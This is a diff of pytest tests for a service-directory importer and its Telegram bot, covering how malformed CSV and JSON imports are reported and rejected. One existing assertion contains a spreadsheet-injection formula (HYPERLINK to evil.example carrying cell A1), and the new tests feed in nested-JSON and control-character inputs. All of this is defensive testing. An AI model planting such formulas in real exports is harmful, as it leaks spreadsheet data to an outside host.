@@ -21,6 +21,7 @@ from sqlalchemy.exc import DBAPIError
 from bot.models import BotUserData
 from catalogue.db import session_scope
 from catalogue.importer import export_bytes, import_bytes, parse
+from catalogue.limits import TEXT_LIMITS
 from catalogue.models import Location, OpeningHours, Service, ServiceCategory
 from catalogue.services import (
     ConcurrentEditError,
@@ -145,5 +146,164 @@ async def test_admin_export_is_spreadsheet_safe(tmp_path):
         cells = _cells(document.files["document"])
         assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Douches\")" in cells
         assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    finally:
+        await kit.app.shutdown()
+
+
+# --- hostile and broken imports: a report, never a traceback, and nothing written ------------
+
+SHEET = (
+    "id,name,categories,city,access_note,free,languages,verified_on\n"
+    "s-1,Douches,shower,Roubaix,Sans rendez-vous le matin,yes,fr|ar,2026-03-01\n"
+    "s-2,Repas,food_distribution,Lille,Sur inscription,no,fr,2026-03-01\n"
+)
+SERVICE = {"id": "j-1", "name": "Bains", "attributes": [], "x_relais": {"source": "test"},
+           "service_at_locations": [{"location": {"id": "loc-j", "name": "Salle"}}]}
+
+
+def _problems(data: bytes, name: str) -> list[str]:
+    _, report = parse(data, name)
+    return report.problem_lines()
+
+
+def _state(engine) -> bytes:
+    return export_bytes(engine, "hsds")
+
+
+@pytest.mark.parametrize(("data", "expected"), [
+    (SHEET.encode()[:-30], "line 3, free: 5 cells for 8 columns"),
+    (SHEET.encode() + b's-3,"Cut,shower,Lille,x,yes,fr,2026-03-01\n', "line 4: malformed CSV"),
+    (SHEET.encode("utf-16"), "this file is UTF-16 text: save it as CSV UTF-8"),
+    (SHEET.encode("utf-16-le"), "this file is UTF-16 text: save it as CSV UTF-8"),
+    (b"PK\x03\x04\x14\x00", "an Excel or OpenDocument workbook, not CSV"),
+    (b"id,name," + b"x" * 200_000 + b"\ns,n,\n", "line 1: malformed CSV header"),
+    (SHEET.replace("2026-03-01\ns-2", "2026-03-01\ns-2").replace(",Roubaix", ",Roubaix", 1)
+     .replace("Douches", "D" * 121).encode(), "line 2, name: 121 characters, at most 120"),
+    (b"id,name,min_age\ns,n,\xc2\xb2\n", "line 2, min_age: not a whole number: '\xb2'"),
+    (b"id,name,min_age\ns,n," + b"9" * 5000 + b"\n", "line 2, min_age: not a whole number"),
+    (b"id,name,latitude,longitude\ns,n,inf,nan\n", "line 2, latitude: not a number: 'inf'"),
+    (b"id,name,languages\ns,n,fr|zz\n", "line 2, languages: unknown language code 'zz'"),
+    (b"id,name,hours\ns,n,mo 9-12 (2026-08-31..2026-08-01)\n", "ends before it starts"),
+    (b"id,name,closures\ns,n,2026-08-31..2026-08-01 closed\n", "ends before it starts"),
+])
+def test_a_broken_sheet_is_named_precisely(data, expected):
+    assert any(expected in line for line in _problems(data, "sheet.csv")), \
+        _problems(data, "sheet.csv")
+
+
+@pytest.mark.parametrize(("doc", "expected"), [
+    (b"[" * 200_000 + b"]" * 200_000, "nested deeper than 20 levels"),
+    (b"[" * 30 + b"]" * 30, "nested deeper than 20 levels"),
+    (b'[{"id": "x", "name": "y", "minimum_age": ' + b"9" * 5000 + b"}]", "invalid JSON"),
+    (b'[{"id": "x", "name": "y", "service_at_locations": [{"location": {"id": "l", '
+     b'"latitude": Infinity, "longitude": 3}}]}]', "Infinity is not a number"),
+    (json.dumps([{**SERVICE, "x_relais": {"access": ["appointment"], "gender": {"a": 1},
+                                          "free": 3, "source": 7, "translations": []}}]).encode(),
+     "item 1, x_relais.access: expected text, got list"),
+    (json.dumps([{**SERVICE, "x_relais": {"translations": {"zz": {"description": "x"}}}}]).encode(),
+     "item 1, translations: 'zz' is not one of"),
+    (json.dumps([{**SERVICE, "schedules": [{"byday": "MO", "opens_at": "09:00", "closes_at":
+               "12:00", "valid_from": "2026-09-01", "valid_to": "2026-08-01"}]}]).encode(),
+     "ends before it starts"),
+    (json.dumps([{**SERVICE, "name": "N" * 100_000}]).encode(),
+     "item 1, name: 100000 characters, at most 120"),
+])
+def test_a_broken_json_file_is_named_precisely(doc, expected):
+    assert any(expected in line for line in _problems(doc, "file.json")), \
+        _problems(doc, "file.json")
+
+
+def test_x_relais_wrong_types_are_each_reported():
+    doc = [{**SERVICE, "x_relais": {"access": ["a"], "gender": {"a": 1}, "free": 3, "source": 7,
+                                    "translations": [], "exceptions": {}}}]
+    fields = {line.split(":")[0] for line in _problems(json.dumps(doc).encode(), "f.json")}
+    assert {f"item 1, x_relais.{f}" for f in ("access", "gender", "free", "source",
+                                               "translations", "exceptions")} <= fields
+
+
+def test_text_is_cleaned_of_control_characters(engine):
+    """NUL (PostgreSQL refuses it), terminal escapes and line breaks in a name are dropped."""
+    doc = [{**SERVICE, "name": "\x1b[31mBains\x1b[0m\x00 douches\n", "description": "a\x00b\n\nc",
+            "service_at_locations": [{"location": {"id": "loc-j", "name": "Salle\x07",
+                                                   "x_relais": {"approximate": "no"}}}]}]
+    assert import_bytes(engine, json.dumps(doc).encode(), "f.json", actor="t").ok()
+    with session_scope(engine) as session:
+        service = get_service(session, "j-1")
+        assert (service.name, service.description) == ("Bains douches", "ab\n\nc")
+        assert service.locations[0].name == "Salle" and service.locations[0].approximate is False
+
+
+def test_a_sheet_without_some_columns_leaves_their_fields_as_they_were(engine):
+    assert import_bytes(engine, SHEET.encode(), "full.csv", actor="t").ok()
+    report = import_bytes(engine, b"id,name\ns-1,Bains douches\n", "names.csv", actor="t")
+    assert (report.ok(), report.updated) == (True, ["s-1"])
+    with session_scope(engine) as session:
+        service = get_service(session, "s-1")
+        assert service.name == "Bains douches" and service.free is True
+        assert service.access_note == "Sans rendez-vous le matin"
+        assert service.languages == ["fr", "ar"] and service.locations[0].city == "Roubaix"
+    again = import_bytes(engine, b"id,name\ns-1,Bains douches\n", "names.csv", actor="t")
+    assert again.unchanged == ["s-1"]
+
+
+def test_kept_fields_are_checked_with_the_new_ones(engine):
+    assert import_bytes(engine, b"id,name,max_age\ns,n,25\n", "a.csv", actor="t").ok()
+    before = _state(engine)
+    report = import_bytes(engine, b"id,name,min_age\ns,n,30\n", "b.csv", actor="t")
+    assert "line 2, max_age: smaller than min_age" in report.problem_lines()
+    assert _state(engine) == before
+
+
+VALID = json.dumps([SERVICE, {**SERVICE, "id": "j-2", "name": "Repas",
+                              "schedules": [{"byday": "MO", "opens_at": "09:00",
+                                             "closes_at": "12:00"}]}]).encode()
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_fuzzed_imports_never_raise_and_a_rejected_one_changes_nothing(sqlite_engine, data):
+    original = data.draw(st.sampled_from([VALID, SHEET.encode()]))
+    name = "f.json" if original is VALID else "f.csv"
+    cuts = data.draw(st.lists(st.tuples(st.integers(0, len(original)), st.binary(max_size=6),
+                                        st.integers(0, 6)), max_size=4))
+    mutated = original
+    for at, insert, drop in cuts:
+        mutated = mutated[:at] + insert + mutated[at + drop:]
+    before = _state(sqlite_engine)
+    report = import_bytes(sqlite_engine, mutated, name, actor="fuzz")
+    if not report.ok():
+        assert _state(sqlite_engine) == before
+
+
+def _longest(key: str, letter: str = "é") -> str:
+    return (letter + " ") * (TEXT_LIMITS[key] // 2)
+
+
+async def test_a_service_with_every_text_at_its_limit_still_fits_a_telegram_message(tmp_path):
+    """The limits exist for this: a card over 4,096 characters is refused by Telegram."""
+    kit = await make_kit(f"sqlite:///{tmp_path / 'relais.db'}")
+    try:
+        item = {
+            "id": "long", "name": _longest("name"), "description": _longest("description"),
+            "alternate_name": _longest("alternate_name"),
+            "eligibility_description": _longest("eligibility"),
+            "application_process": _longest("access_note"), "fees_description": _longest("fees"),
+            "url": "https://" + "w" * (TEXT_LIMITS["website"] - 8),
+            "email": "e" * (TEXT_LIMITS["email"] - 4) + "@a.f",
+            "organization": {"id": "o", "name": _longest("organization.name", "o")},
+            "phones": [{"number": "03 20 00 00 0" + str(n)} for n in range(3)],
+            "service_at_locations": [{"location": {
+                "id": "l", "name": _longest("locations.name"), "latitude": 50.69,
+                "longitude": 3.17, "description": _longest("locations.description"),
+                "addresses": [{"address_1": _longest("locations.address"), "city": "Roubaix",
+                               "postal_code": "59100"}]}}],
+            "schedules": [{"byday": "MO", "opens_at": "09:00", "closes_at": "12:00"}],
+            "x_relais": {"source": _longest("source", "s")},
+        }
+        report = import_bytes(kit.engine, json.dumps([item]).encode(), "f.json", actor="t")
+        assert report.ok(), report.problem_lines()
+        calls = await kit.other.send("/start svc_long")
+        assert any(c.method == "sendMessage" and "é é" in c.text for c in calls)
+        assert not kit.request.refused
     finally:
         await kit.app.shutdown()
